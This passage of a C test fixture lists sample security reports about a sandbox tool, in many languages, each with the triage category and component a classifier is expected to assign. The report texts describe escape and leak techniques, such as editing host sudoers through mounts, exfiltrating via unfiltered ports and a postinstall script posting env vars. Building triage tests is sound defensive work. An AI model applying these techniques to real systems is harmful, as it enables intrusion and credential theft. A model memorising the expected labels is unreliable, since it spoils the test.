	  "Changing the org id in the URL of the cloud API /api/v1/orgs/ID/sandboxes lists another\n"
	  "organization's sandboxes; I called that URL with my own API key.", "control_plane_auth", "cloud" },
	/* issue #3: a local user who reaches root through a root helper is an
	 * escalation whatever the helper is for (its DNS words are its job):
	 * told in Hungarian and Czech, and by the socket's mode and the macOS
	 * privileged helper's place; a resolver that ignores the egress
	 * rules stays a network bypass */
	{ "Helyi jogosultság-kiterjesztés az msb-dns segédprogramban",
	  "A root-ként futó msb-dns segédprogram socketje mindenki számára írható, így bármely helyi\n"
	  "felhasználó root lesz a gépen.", "privilege_escalation", "core" },
	{ "Pomocný program msb-dns",
	  "Pomocný program msb-dns běží jako root a zapisuje soubor resolveru kamkoli; jde o eskalaci\n"
	  "oprávnění běžného uživatele.", "privilege_escalation", "core" },
	{ "msb-dns helper",
	  "The msb-dns helper in /Library/PrivilegedHelperTools listens on a socket with mode 0666\n"
	  "and its set_resolver call writes the nameserver file as root to a path we choose.\n"
	  "srw-rw-rw-  1 root  daemon  0 /var/run/msb-dns.sock", "privilege_escalation", "core" },
	{ "Resolver ignores the egress policy",
	  "The DNS resolver inside the sandbox ignores the egress allow list, so code in the guest\n"
	  "reaches any nameserver it likes and tunnels data out.", "network_bypass", "core" },
	/* (#3) the guest given the host's root filesystem or a path it picks,
	 * or talking to the host's own Unix sockets, crossed guest to host:
	 * root words and network words do not make it an escalation or an
	 * egress bypass.  A host folder shared on purpose, an agent forwarded
	 * in, a local user on a 0666 socket stay what they were */
	{ "OCI annotation bind-mounts the host root filesystem",
	  "An annotation in the image makes msb mount the host's root filesystem into the sandbox\n"
	  "at /mnt/h without any flag. From the guest I read /mnt/h/etc/shadow as root and gain\n"
	  "host root by editing /mnt/h/etc/sudoers.", "sandbox_escape", "core" },
	{ "Manifest field mounts arbitrary paths",
	  "The image manifest can mount any host path into the guest, which gives the image\n"
	  "read/write access to the entire host filesystem; a local user account is not needed.",
	  "sandbox_escape", "core" },
	{ "Guest reaches the host's Docker socket",
	  "Through the vsock socket proxy, any process in the guest can connect to any unix socket\n"
	  "on the host, /run/docker.sock included. The network policy and the egress allow list\n"
	  "do not apply to it.", "sandbox_escape", "core" },
	{ "Unix sockets of the host reachable",
	  "Host unix sockets are reachable from inside the sandbox: I spoke to the gpg agent and\n"
	  "the session bus of my user through the port forwarder.", "sandbox_escape", "core" },
	{ "API key in the debug log",
	  "We mount a host directory into the sandbox with --volume. The API key passed with --env\n"
	  "is written to the debug log in plain text.", "secret_leakage", "core" },
	{ "Agent forwarded into every sandbox",
	  "msb forwards the host's ssh-agent socket into every sandbox, so code in the guest signs\n"
	  "with my keys.", "secret_leakage", "core" },
	{ "msbd socket is 0666",
	  "The unix socket of msbd on the host is created with mode 0666, so any local user on\n"
	  "the machine can ask the root daemon to chown /etc/shadow and become root.",
	  "privilege_escalation", "core" },
	/* (#3) what one namespace, team or tenant keeps, reached from
	 * another's sandbox, is isolation even when it holds a secret; a
	 * secret in a log another team reads is a leak */
	{ "Disks of another tenant attachable",
	  "A sandbox started under tenant blue can attach the disks of another tenant by name and\n"
	  "read the API keys stored there.", "isolation_bypass", "core" },
	{ "Workspace lookup ignores the owner",
	  "Once the lookup ignores the workspace, team 2 can open team 1's secrets from its own\n"
	  "sandbox and overwrite them too.", "isolation_bypass", "core" },
	{ "Token in the CI log",
	  "The registry token is printed to the shared CI log in plain text, where another team\n"
	  "can read it.", "secret_leakage", "core" },
	/* (#3) isolation between sandboxes or owners in Polish, Czech and
	 * Slovak; network isolation stays an egress matter */
	{ "Naruszenie izolacji w msb",
	  "Proces jednego użytkownika może czytać i zmieniać pliki w cudzej piaskownicy, bo obie\n"
	  "używają tego samego katalogu roboczego.", "isolation_bypass", "core" },
	{ "Problém s izolací mezi sandboxy",
	  "Proces v jednom sandboxu čte soubory v cizím sandboxu přes sdílený adresář.",
	  "isolation_bypass", "core" },
	{ "Porušenie izolácie v SDK",
	  "Zdieľaná vyrovnávacia pamäť medzi klientmi v Python SDK vráti jednému klientovi\n"
	  "pieskovisko iného.", "isolation_bypass", "python_sdk" },
	/* (#3) a guest workload that is root on the host or writes onto it,
	 * or a link it made that the host side follows, is an escape in
	 * German, French, Spanish and Italian too, however the writer names
	 * it (Rechteausweitung, élévation de privilèges); a host user's
	 * escalation and root inside the guest alone stay what they were */
	{ "Rechteausweitung im Dateidienst",
	  "Root im Gast ist dadurch auch root auf dem Host: ein Skript im Gast legt Dateien unter /etc\n"
	  "des Rechners an.", "sandbox_escape", "core" },
	{ "Rechteausweitung über geteilte Ordner",
	  "Ein symbolischer Link im geteilten Ordner wird nur auf Host-Seite aufgelöst, der Dienst\n"
	  "läuft als root und legt die Datei in /etc/sudoers.d an.", "sandbox_escape", "core" },
	{ "Élévation de privilèges via le dossier partagé",
	  "Le lien symbolique créé par l'invité est suivi côté hôte par le service root, qui\n"
	  "écrit alors dans /etc/cron.d.", "sandbox_escape", "core" },
	{ "Escalada de privilegios",
	  "Con root en el invitado se obtiene root en el host: el invitado escribe en el host\n"
	  "un fichero en /etc/cron.d a través del volumen.", "sandbox_escape", "core" },
	{ "Escalation dei privilegi tramite il volume",
	  "Il link simbolico creato dal guest viene risolto lato host dal servizio che gira come\n"
	  "root, così il guest scrive sull'host in /etc/cron.d.", "sandbox_escape", "core" },
	{ "Rechteausweitung durch msbd",
	  "Ein unprivilegierter lokaler Benutzer auf dem Host kann über den Socket von msbd\n"
	  "root-Rechte erlangen, weil der Socket 0666 ist.", "privilege_escalation", "core" },
	/* (#3) another organisation's or customer's sandbox, and its secrets,
	 * in Korean; the cloud named in Korean and by the SDK's cloud class
	 * is the component though the steps are told with the Python SDK */
	{ "클라우드 샌드박스 격리 문제",
	  "같은 노드에 올라간 다른 고객 샌드박스의 환경 변수를 제 샌드박스 안에서 읽을 수\n"
	  "있습니다. 재현 (Python SDK): CloudSandbox.create(image=\"alpine\") 후 /proc 을 확인합니다.",
	  "isolation_bypass", "cloud" },
	{ "관리형 클라우드 문제",
	  "관리형 클라우드에서 다른 조직의 데이터 볼륨이 제 샌드박스에 마운트됩니다.",
	  "isolation_bypass", "cloud" },
	{ "Python SDK 질문",
	  "Python SDK 로 샌드박스를 만들 때 timeout 인자가 무시됩니다. pip show microsandbox 는\n"
	  "0.10.3 입니다.", NULL, "python_sdk" },
	/* (#3) one customer's own restore, clone or fork that comes up with
	 * another customer's data is the snapshot path, however loudly the
	 * writer says authorization; restoring another org's snapshot by its
	 * id is the control plane's check */
	{ "Forked sandboxes show someone else's files (access control bug?)",
	  "We fork our own template sandbox each hour. Since Monday some forks come up holding another\n"
	  "tenant's files and database dumps; the fork API never saw another org's id from us, only ours.",
	  "snapshot_leak", "cloud" },
	{ "Authorization bug: restore takes any org's snapshot id",
	  "The control plane lets me restore another org's snapshot by changing the snapshot id in\n"
	  "POST /v1/sandboxes; it never checks who owns the snapshot.",
	  "control_plane_auth", "cloud" },
	{ "Problem z izolacją sieci",
	  "Sandbox uruchomiony z --net none nadal łączy się z internetem, polityka sieciowa\n"
	  "nie działa.", "network_bypass", "core" },
	/* (#3) another customer's object reachable because its id can be
	 * guessed or no login is asked for is the control plane's missing
	 * check, even when what it shows is logs or keys; a secret printed
	 * into one's own logs or baked into an image stays a leak */
	{ "Build logs of other tenants readable in the cloud console",
	  "The cloud console's export links use sequential ids. I could open a different customer's\n"
	  "export by counting up from mine, and their export holds their deploy credentials.",
	  "control_plane_auth", "cloud" },
	{ "Run output pages in the cloud open without logging in",
	  "A run's output page in the cloud dashboard opens without logging in, and walking the ids\n"
	  "shows other accounts' runs, including the tokens they print.",
	  "control_plane_auth", "cloud" },
	{ "Los registros de otras organizaciones en la nube",
	  "Los enlaces de registros en la nube usan IDs secuenciales y se abren sin iniciar sesión:\n"
	  "veo los registros de otra organización, con sus secretos y credenciales.",
	  "control_plane_auth", "cloud" },
	{ "API token printed in the run log",
	  "msb run prints the full API token into the run log on every start, so anyone who gets the log\n"
	  "reads the token. Logged in as usual, nothing else involved.",
	  "secret_leakage", "core" },
	{ "Registry password baked into the published image",
	  "The published base image contains the registry password in /etc/msb/auth.json; any pull\n"
	  "of the image leaks the credentials.",
	  "secret_leakage", "core" },
	/* (#3) an allow list that matches host names by a suffix or a part
	 * lets a look-alike domain through; a hostname compared in a place
	 * that is not about egress is none */
	{ "--allow-host matches by suffix",
	  "The allow list check is a suffix match on the hostname, so a guest allowed to reach\n"
	  "files.example also reaches evilfiles.example, a domain anyone can buy.",
	  "network_bypass", "core" },
	{ "Egress allowlist lets look-alike hosts through",
	  "With an allowlist of one registry, the guest can connect to any host whose name ends with\n"
	  "the registry's name, so data goes to a server outside the allowlist.",
	  "network_bypass", "core" },
	{ "Snapshot files restore another sandbox's memory",
	  "Snapshots are stored under sequential ids. Restoring my snapshot brings up a sandbox holding\n"
	  "another sandbox's memory and files from the shared pool.",
	  "snapshot_leak", "core" },
	{ "Guest has no login shell but reads the host's keys",
	  "The guest runs with no login shell, yet any process in it reads the host's SSH private keys\n"
	  "through the mounted /root directory, which leaks the credentials.",
	  "secret_leakage", "core" },
	{ "Image cache uses a prefix match on image names",
	  "The layer cache looks layers up by a prefix match on the image name, so one tenant's sandbox\n"
	  "starts with another tenant's cached layer and its files.",
	  "isolation_bypass", "core" },
	{ "Allowlist de red: coincidencia de sufijo",
	  "La allowlist de salida usa coincidencia de sufijo: el invitado llega a evil-repo.example\n"
	  "cuando solo repo.example está permitido.", "network_bypass", "core" },
	/* (#3) a deny option that leaves out a private or reserved range
	 * (CGNAT, IPv6 ULA, an internal network named in the writer's
	 * language) is a network bypass, even when what it reaches is an
	 * admin API whose JSON lists roles; a private range named beside an
	 * authorization flaw, with no deny option or egress word, is none */
	{ "Opsi --net-deny-private tidak menutup rentang CGNAT",
	  "Dengan --net-deny-private, kode pengguna di dalam sandbox tetap bisa membuka layanan\n"
	  "internal kami di 100.64.0.0/10. Jaringan internal itu seharusnya tertutup.\n\n"
	  "  / # curl -s http://100.72.3.9/api/me\n  {\"name\":\"ops\",\"role\":\"admin\"}\n",
	  "network_bypass", "core" },
	{ "--net-deny-private deja pasar fd00::/8",
	  "Con --net-deny-private el invitado sigue llegando a nuestros servicios internos en\n"
	  "fd00::/8; la red interna debería quedar fuera de su alcance.", "network_bypass", "core" },
	{ "Réseau interne joignable malgré --net-deny-private",
	  "Avec --net-deny-private, le bac à sable atteint encore notre réseau interne par les\n"
	  "adresses 100.64.0.0/10 de notre VPN, donc la base de données de production.",
	  "network_bypass", "core" },
	{ "Viewer role deletes sandboxes in our private range",
	  "Our sandboxes sit in 10.0.0.0/8 behind the dashboard. A member with the viewer role can\n"
	  "still delete any sandbox of the org through the /api/v1 endpoint.",
	  "control_plane_auth", "cloud" },
	/* (#3) someone removed from the organisation whose session, terminal
	 * or key still acts on it is an authorization flaw, whatever secrets
	 * it then reads; a token copied into an exported file stays a leak,
	 * and deleted files (not people) still readable are no removal */
	{ "Deactivated user keeps the cloud terminal",
	  "In the cloud console a deactivated user of our workspace kept using the web terminal of our\n"
	  "sandboxes for an hour and read the env secrets of our deploy jobs.",
	  "control_plane_auth", "cloud" },
	{ "Console banner says I left, terminal still open",
	  "The cloud console showed 'You are no longer a member of this team' while the web terminal\n"
	  "below it still ran commands, so I printed the API key stored in the sandbox.",
	  "control_plane_auth", "cloud" },
	{ "Membre retiré : terminal web encore actif",
	  "Dans la console cloud, un membre retiré de l'organisation peut toujours ouvrir le terminal\n"
	  "web de nos sandboxes et lire les secrets de production.", "control_plane_auth", "cloud" },
	{ "Entferntes Mitglied nutzt das Web-Terminal",
	  "Im Cloud Dashboard kann ein entferntes Mitglied weiterhin das Web-Terminal unserer\n"
	  "Sandboxen öffnen und die Secrets der Produktion lesen.", "control_plane_auth", "cloud" },
	{ "Exported HAR file holds the console session token",
	  "Saving the cloud console's network log as a HAR file writes the member's session token and\n"
	  "API key in plain text into it, so anyone handed the file can use the leaked credentials.",
	  "secret_leakage", "cloud" },
	/* (#3) the hosted API's own authorisation decides the cloud, whatever
	 * SDK sent the request: a key cut for one project or workspace acting
	 * on another, the tenant taken from a request header; the SDK given
	 * only as the client ("Client: the Python SDK") is not the flaw
	 * (the first short text reaches no class: only its component is tested) */
	{ "Workspace token reaches sandboxes of other workspaces",
	  "A token that was created for a single workspace can stop and exec in sandboxes of the other\n"
	  "workspaces in the org: the workspace is read from the X-Acme-Workspace request header, not from\n"
	  "the token, so the API never checks the token's authorization for that workspace.\n"
	  "Client: the Python SDK (pip install microsandbox), version 0.10.4.",
	  NULL, "cloud" },
	/* (#3, 5130) one customer's code running commands "inside the sandbox
	 * of customer A" */
	{ "namespace not used by sandboxes.get()",
	  "The namespace option of the client is not used when you get a sandbox by name. So the code of customer B "
	  "can run commands inside the sandbox of customer A, read its env and also the submissions of A's students.",
	  "isolation_bypass", "core" },
	{ "Tenant header lets any key act on another tenant",
	  "The hosted API trusts the client-supplied X-Msb-Tenant header, so with our own key we listed the\n"
	  "sandboxes of another tenant and exec in them: an authorization bypass, the key's scope is never\n"
	  "checked. We call it with the Node SDK, npm install microsandbox, version 0.9.1.",
	  "control_plane_auth", "cloud" },
	/* ... but an SDK's own error or exception text that carries the key is
	 * the SDK's flaw, though the request went to the cloud */
	{ "Bearer token in failed request errors",
	  "When a request fails the SDK includes the bearer token in the exception message, and our\n"
	  "logger ships that to a shared channel.\n\n"
	  "    Error: 500 upstream timeout POST https://api.cloud.microsandbox.example/v1/sandboxes authorization: Bearer msb_live_xxxx\n"
	  "        at Client.send (/srv/worker/node_modules/microsandbox/dist/client.js:88:11)",
	  "secret_leakage", "node_sdk" },
	{ "API key in exception text",
	  "The SDK's exception text contains the API key whenever the cloud returns 5xx.\n\n"
	  "    File \"/opt/venv/lib/python3.12/site-packages/microsandbox/http.py\", line 77, in post\n"
	  "    microsandbox.errors.ApiError: POST https://api.cloud.microsandbox.example/v1/sandboxes failed (key=msb_live_xxxx)",
	  "secret_leakage", "python_sdk" },
	/* negatives: the cloud API's own response echoing the key stays the
	 * cloud's; a registry token scoped to one project is the release
	 * pipeline's; a bug said to be in the SDK stays the SDK's even when
	 * the SDK is also given as the client */
	{ "Cloud API echoes the key back",
	  "The cloud API's 401 error response echoes the full API key back in the error message body, and\n"
	  "our proxy logs every response body.\n\n"
	  "    curl -H 'Authorization: Bearer msb_live_xxxx' https://api.cloud.microsandbox.example/v1/sandboxes\n\n"
	  "We normally use the Python SDK; plain curl shows the same.", "secret_leakage", "cloud" },
	{ "PyPI token visible in release job",
	  "The PyPI API token scoped to a single project is printed in the log of the publish workflow on\n"
	  "every release of the wheel; anyone can read the Actions logs and upload a wheel.",
	  "secret_leakage", "release_infra" },
	{ "Python SDK leaves the API key in a world-readable temp file",
	  "The Python SDK's upload helper writes the API key to /tmp/msb-upload.json with mode 0644, so\n"
	  "any local user can read it. Client: Python SDK 0.10.3 from pip.", "secret_leakage", "python_sdk" },
	{ "Deleted credential files stay in the host cache",
	  "Deleted files still stay in the host's cache: the credentials file a guest removed is kept\n"
	  "under /var/cache/msb world-readable, so every local user reads its secret keys.",
	  "secret_leakage", "core" },
	/* (1215) the isolation itself named as what is wrong, in English,
	 * French and German, is isolation_bypass though the tenant's env and
	 * keys are what the other side then sees; network isolation is egress,
	 * and a key printed in a log or an env var copied into a sandbox stays
	 * a leak */
	{ "Python SDK pool mixes up tenants",
	  "I think we have an isolation issue in the Python SDK pool: when one tenant asks for a\n"
	  "sandbox with the label of another tenant, get() returns that running sandbox, env and keys\n"
	  "included.", "isolation_bypass", "python_sdk" },
	{ "Problème d'isolation avec msb run --name",
	  "Nous avons un problème d'isolation : deux locataires qui passent le même --name partagent\n"
	  "la même sandbox, et le second lit les fichiers et les variables d'environnement du premier.",
	  "isolation_bypass", "core" },
	{ "Isolationsproblem im Node SDK",
	  "Ein Isolationsproblem: ein zweiter Mandant mit demselben Sandbox-Namen landet in der\n"
	  "laufenden Sandbox des ersten und liest dessen API-Schlüssel aus der Umgebung.",
	  "isolation_bypass", "node_sdk" },
	{ "Network isolation issue with --net none",
	  "There is a network isolation issue: a sandbox started with --net none still resolves names\n"
	  "and reaches the internet over the host's DNS forwarder.", "network_bypass", "core" },
	{ "Server prints tenants' API keys",
	  "msb server writes every tenant's API key into its access log at INFO level, and the log is\n"
	  "world-readable, so any local user reads the keys of every tenant.", "secret_leakage", "core" },
	{ "Node SDK copies the host env into sandboxes",
	  "The Node SDK copies the host's AWS_SECRET_ACCESS_KEY environment variable into every sandbox\n"
	  "it creates, so untrusted code in any tenant's sandbox reads our cloud credentials.",
	  "secret_leakage", "node_sdk" },
	/* (1220) the organisation or ownership check named first and said
	 * missing after it, in a sentence and in a subject's few words: one
	 * org's key reaching another's sandboxes is control_plane_auth, even
	 * when the writer adds that their secrets can be read; another check
	 * said missing (a signature) is not the owner's */
	{ "Cloud exec reads secrets of others",
	  "In the cloud API the ownership check is not done for exec: with our API key I run commands\n"
	  "in sandboxes of other customers and print their secret tokens.", "control_plane_auth", "cloud" },
	{ "Cloud exec prints other owners' env",
	  "In the cloud API the check on the tenant is skipped for exec, so our key runs env in any\n"
	  "sandbox and reads the secrets and tokens of its owner.", "control_plane_auth", "cloud" },
	{ "Org check missing on the volumes API",
	  "Any API key can list and mount the volumes of another organisation in the cloud by putting\n"
	  "its org id in the path; the files and secrets on them are readable.", "control_plane_auth",
	  "cloud" },
	{ "install.sh: signature check is missing",
	  "install.sh downloads the release tarball and its .sig, but the signature check is missing, so\n"
	  "a mirror can serve any binary and it gets installed.", "supply_chain", "release_infra" },	/* (1231) only some ports or protocols go through the egress filter,
	 * the rest leave unchecked, in English, Hungarian, German and
	 * Spanish; a port the writer published himself is no gap */
	{ "--net-allow leaves SSH open",
	  "With --net-allow set to our registry only, the proxy only sees ports 80 and 443: a job in the\n"
	  "sandbox opened ssh to a random VPS and pushed our source there.", "network_bypass", "core" },
	{ "A --net-allow nem szűri a többi portot",
	  "A --net-allow mellett a sandbox csak a github.com-ot érheti el HTTPS-en, de a többi port\n"
	  "szűrés nélkül kimegy: az nc a 25-ös porton bármelyik szerverhez csatlakozik.",
	  "network_bypass", "core" },
	{ "--net-allow: andere Ports ungefiltert",
	  "Mit --net-allow api.example.com gehen alle anderen Ports ungefiltert raus, nur Port 443\n"
	  "wird über den Proxy geprüft; ein Skript schickt Daten per Port 2222 an jeden Server.",
	  "network_bypass", "core" },
	{ "--net-allow y los puertos",
	  "Con --net-allow los demás puertos salen sin filtrar: desde el sandbox llego por el 5432 a\n"
	  "cualquier base de datos de internet.", "network_bypass", "core" },
	{ "Published port reachable from the LAN",
	  "I published port 8080 myself with msb run -p 8080:8080 web, and now my phone on the LAN\n"
	  "opens the sandbox's web page on that port. Other ports stay closed. Is that expected?",
	  NULL, "core" },
	/* (1245, 1246) one customer's or company's work landing in or
	 * reaching another's, told without security words: the sandbox of
	 * one tenant created in another's account, another company's service
	 * reached on the internal network, the Korean with the Latin word
	 * "sandbox"; the writer's own sandboxes reaching each other by design
	 * are none */
	{ "Jobs of one client end up in another client's account",
	  "In the managed cloud the jobs of one client sometimes start in the organisation of another client:\n"
	  "client B opens them in its console and sees client A's input files.",
	  "isolation_bypass", "cloud" },
	{ "Cloud sandbox sees someone's database",
	  "From our cloud sandbox I can open the Postgres of another company on 10.2.0.8: it is not\n"
	  "ours, and it lets us in with the default user.", "isolation_bypass", "cloud" },
	{ "다른 고객 sandbox 의 포트가 열립니다",
	  "Our cloud sandbox can open port 8080 of machines that belong to other people, for example\n"
	  "a web admin page we never created.", "isolation_bypass", "cloud" },
	{ "Fixed address for db-1 in the cloud",
	  "Our api-1 and db-1 cloud sandboxes are in the same project and api-1 reaches db-1 on\n"
	  "port 5432, as the docs say. How do I give db-1 a fixed address?", NULL, "cloud" },
	/* (1252) something its owner made private that another organisation
	 * or anyone can see or start: the control plane's visibility check,
	 * whatever the started copy holds; a public template anyone may
	 * start, or a private one the writer's own team starts, is none */
	{ "Private snapshot pulled by another org",
	  "I pushed a snapshot as private in the cloud console. A user of another organization pulled it\n"
	  "and started it, and saw our config files with the database password.",
	  "control_plane_auth", "cloud" },
	{ "Private images are not private",
	  "Private images in the managed cloud are not private: anyone with a free account runs\n"
	  "them with msb cloud run --image acme/private-base and reads the files inside.",
	  "control_plane_auth", "cloud" },
	{ "Public template started by strangers",
	  "I made my managed cloud template public so anyone may start it, and strangers start it\n"
	  "and read the demo notebook inside. Can I see who started it?", NULL, "cloud" },
	{ "Private template used by my team",
	  "My private template in the managed cloud is usable by other members of my own org, as\n"
	  "teams work. Can I limit it to one member?", NULL, "cloud" },
	/* (1260) a clone that takes over another sandbox's network identity
	 * and receives its traffic is the separation between sandboxes, in
	 * other wordings and languages; a restore whose disk holds the earlier
	 * user's files stays a snapshot leak */
	{ "Forked VM answers for its parent",
	  "After msb fork the child sandbox has an identical MAC address to the parent, and the\n"
	  "switch starts handing the parent's incoming connections to the child while both run.",
	  "isolation_bypass", "core" },
	{ "Cloned sandboxes share one address",
	  "Two sandboxes cloned from the same template end up on the same IP address; whichever\n"
	  "answered ARP last gets the other sandbox's requests, including its auth headers.",
	  "isolation_bypass", "core" },
	{ "Sandbox restaur\u00e9e : m\u00eame adresse que l'originale",
	  "Une sandbox restaur\u00e9e depuis un instantan\u00e9 pendant que la source tourne encore re\u00e7oit le\n"
	  "trafic de l'autre sandbox : le pont lui livre les connexions entrantes de la premi\u00e8re.",
	  "isolation_bypass", "core" },
	{ "Restored disk keeps the earlier user's home directory",
	  "I restored my sandbox from a snapshot and the disk still holds files from the previous\n"
	  "user's workspace: their .bash_history and a checkout of a private repo are readable.",
	  "snapshot_leak", "core" },
	{ "Egress proxy logs every request",
	  "The egress proxy sees the sandbox's requests in full and writes the bearer token of each\n"
	  "one to /var/log/msb/proxy.log, readable by every local user.",
	  "secret_leakage", "core" },
	/* (1273) a token made for one narrow use that the API takes for
	 * anything is the control plane's scope check, whatever it then
	 * reads; a token printed in a log stays a leak */
	{ "Preview link token works as an admin API key",
	  "The share token on a sandbox preview link is supposed to open that one preview, yet the\n"
	  "API accepts it on every endpoint: with it I listed the org's secrets and stopped sandboxes.",
	  "control_plane_auth", "cloud" },
	{ "Upload token accepted beyond its sandbox",
	  "A file-upload token the cloud API issues for a single sandbox is honoured by all other routes too; the\n"
	  "upload token also works as a full org token, so it can read secret values via /v1/secrets.",
	  "control_plane_auth", "cloud" },
	{ "Cloud terminal token printed in the browser console",
	  "Opening the web terminal prints the terminal token and the org's secret values to the\n"
	  "browser console log, where any extension on the page can read them.",
	  "secret_leakage", "cloud" },
	/* (1259) a registry namespace the project's install path names that
	 * nobody owns is the release side; another project's is not */
	{ "Quay organisation from your install guide is unowned",
	  "The install guide pulls quay.io/msb-team/server, but that organisation was never registered\n"
	  "on quay.io: anyone can create it and push an image every new installation would run.",
	  "supply_chain", "release_infra" },
	{ "Abandoned npm scope in the SDK README",
	  "The Node SDK README tells people to npm install @msbhq/cli, an unclaimed npm scope that I\n"
	  "could register today and publish any package under.",
	  "supply_chain", "release_infra" },
	/* (#3, 3268) a scope the project does not own, which its docs tell
	 * Node users to install from, outranks the SDK the subject names */
	{ "Malicious @microsandbox/sdk on npm: your Node docs point users to it",
	  "The Node SDK page of your docs says npm install @microsandbox/sdk.\n"
	  "You don't own the `@microsandbox` scope. It was created last week by a stranger and its\n"
	  "postinstall script posts process.env to a collector.",
	  "supply_chain", "release_infra" },
	/* (1704) a name the published package depends on that nobody owns
	 * on the registry is the release side, however plainly the SDK's npm
	 * or PyPI package is named; a bug in the SDK's code is the SDK's */
	{ "Platform wheel dependency of the PyPI package is claimable",
	  "The microsandbox PyPI package pulls its helper binary from an unregistered package name,\n"
	  "microsandbox-bin-aarch64. Anyone could register that name today and pip would install and\n"
	  "run their build for every user of the Python SDK on aarch64.",
	  "supply_chain", "release_infra" },
	/* (2269) a name nobody holds that the Python SDK's own extra requires
	 * is the SDK's, however loudly "dependency confusion" names the
	 * release side; the writer who places it in the publishing keeps it
	 * there, and a claimable helper binary (above) stays the release's */
	{ "Dependency confusion through the tracing extra",
	  "Installing the Python SDK with pip install microsandbox[tracing] pulls in msb-otel-bridge: the tracing extra\n"
	  "requires a package that is not registered on PyPI, so whoever uploads it first runs code on\n"
	  "every workstation that installs the extra.",
	  "supply_chain", "python_sdk" },
	{ "supply chain: claimable name in METADATA",
	  "pip download microsandbox==0.9.2 and its METADATA has\n"
	  "Requires-Dist: msb-lint-hooks>=1.0; extra == \"lint\"\n"
	  "and msb-lint-hooks is free on pypi.org; dependency confusion waiting to happen.",
	  "supply_chain", "python_sdk" },
	{ "Dependency confusion in how the wheel is published",
	  "I think the hole is in how the Python SDK is published: its docs extra depends on msb-sphinx-theme,\n"
	  "which nobody owns on PyPI, so anyone could upload it.",
	  "supply_chain", "release_infra" },
	{ "npm optionalDependencies",
	  "Your npm package declares an unscoped optional dependency for the windows arm64 binary that\n"
	  "was never published; an attacker can publish it and its install script runs on every install\n"
	  "of the Node SDK on that platform.",
	  "supply_chain", "release_infra" },
	{ "Node SDK drops the API key into stack traces",
	  "The microsandbox npm package throws an error from Sandbox.create() whose message contains the\n"
	  "full API key, so any app that logs errors leaks the key. The package name and its scoped\n"
	  "dependencies are fine; the bug is in the SDK's own error formatting.",
	  "secret_leakage", "node_sdk" },
	{ "Unclaimed Docker Hub namespace of another project",
	  "While reading around I noticed that the Docker Hub namespace of an unrelated project, the\n"
	  "foo-ci tools, was never registered. It has nothing to do with microsandbox; just FYI.",
	  "supply_chain", "core" },
	/* (1350) one local user reaching another's sandbox through the shared
	 * daemon, the owner named after the sandbox or as "any other user's":
	 * the separation between owners; other organisations' sandboxes
	 * through the cloud API stay the control plane's */
	{ "msb attach lands in a colleague's sandbox",
	  "On our shared lab server msbd runs as a system service. Any other user's sandbox called\n"
	  "dev is reachable with msb attach dev: the daemon looks up the name and never compares the\n"
	  "owner, so I get a root shell in it.",
	  "isolation_bypass", "core" },
	{ "msb exec in fremder Sandbox",
	  "Auf unserem gemeinsamen Rechenserver landet msb exec in der Sandbox eines anderen\n"
	  "Benutzers, sobald beide Sandboxen gleich heißen. Ich kann dort Dateien lesen und ändern.",
	  "isolation_bypass", "core" },
	{ "Cloud API lists sandboxes of other organisations",
	  "When I change the org id in the URL of GET /v1/orgs/ID/sandboxes the cloud API returns\n"
	  "the sandboxes of other organisations with my own API key.",
	  "control_plane_auth", "cloud" },
	/* (1353) a host-side credential carried into the guest by the SDK
	 * itself; a key that is said not to go in is none */
	{ "run_function ships our token into every VM",
	  "The Python SDK's run_function() serialises the whole client object, so it copies our\n"
	  "bearer token into the guest of every sandbox, where the untrusted code reads it from the\n"
	  "pickle.",
	  "secret_leakage", "python_sdk" },
	{ "Is our dataset safe in /data?",
	  "We copy our training data into the sandbox with fs.write and the SDK never copies the token\n"
	  "into the sandbox, I checked. Is the dataset safe in /data, or should we encrypt it?",
	  NULL, "python_sdk" },
	/* (1357) the SDKs' network-off option written as code, dropped on the
	 * way; another option that is ignored is no network matter */
	{ "network=\"none\" does nothing in the Python SDK",
	  "With Sandbox.create(image=\"alpine\", network=\"none\") the sandbox still downloads from\n"
	  "pypi.org: the client silently drops the network option when it builds the request.",
	  "network_bypass", "python_sdk" },
	{ "msb run ignores --quiet",
	  "The quiet setting is silently ignored by msb run 0.10.6: it still prints progress bars to\n"
	  "stderr, which breaks our CI log parser.",
	  NULL, "core" },
	/* (1278) a forwarded port listening on every interface, not the
	 * loopback; the daemon's own API open to the LAN without a login is
	 * the control plane's */
	{ "Forwarded port reachable from the whole campus",
	  "With msb run -p 5432:5432 on Fedora the forwarded port is reachable on all interfaces, so\n"
	  "the database in my sandbox answers to everyone on the campus LAN, although the docs say it\n"
	  "is bound to 127.0.0.1 only.",
	  "network_bypass", "core" },
	{ "Port publié sur toutes les interfaces",
	  "Avec msb run -p 8080:8080 sur mon Mac, le port est ouvert sur toutes les interfaces au lieu\n"
	  "de 127.0.0.1 : n'importe qui sur le Wi-Fi du café atteint le service de la sandbox.",
	  "network_bypass", "core" },
	{ "msbd API open on the LAN",
	  "msbd's HTTP API listens on all interfaces and accepts unauthenticated requests from anyone\n"
	  "on the LAN: they can create sandboxes and run commands on my machine.",
	  "control_plane_auth", "core" },
	/* (1565) a port published on the loopback only that the LAN reaches
	 * anyway; a service the writer bound to 0.0.0.0 himself is none */
	{ "Loopback-only publish answers the office network",
	  "I start the wiki with msb run -p 127.0.0.1:3000:3000 and it was published on localhost only,\n"
	  "yet it is reachable from every other machine on the office LAN: the NAT rule msb adds ignores\n"
	  "the bind address entirely.",
	  "network_bypass", "core" },
	{ "Puerto en 127.0.0.1 visible en la red",
	  "Publico el puerto con msb run -p 127.0.0.1:9000:9000 pero el servicio de la sandbox es\n"
	  "accesible desde la red de la oficina; el filtro de salida no tiene nada que ver.",
	  "network_bypass", "core" },
	{ "Question about exposing a port on localhost",
	  "My app inside the sandbox is bound to 0.0.0.0 and I publish it on localhost with -p\n"
	  "127.0.0.1:8000:8000. How do I make it reachable from my phone on the same Wi-Fi?",
	  NULL, "core" },
	/* (1567) the daemon's token checked on one listener only; a key not
	 * checked in to git, or an unverified signature, is none */
	{ "msbd HTTP listener lets anyone in",
	  "msbd checks the bearer token only on its local socket. On the HTTP listener the token is not\n"
	  "verified at all, so any host that reaches port 7411 can start sandboxes with / mounted.",
	  "control_plane_auth", "core" },
	{ "msbd: Token nur am Unix-Socket",
	  "Der Token wird nur am Unix-Socket geprüft. Über --listen 0.0.0.0:7411 kann jeder im Netz ohne\n"
	  "Token Sandboxen anlegen und löschen; curl ohne Authorization-Header liefert 200.",
	  "control_plane_auth", "core" },
	{ "Where to keep the msbd token",
	  "Our msbd API token is not checked in to git; we keep it in a vault and only ask for the token\n"
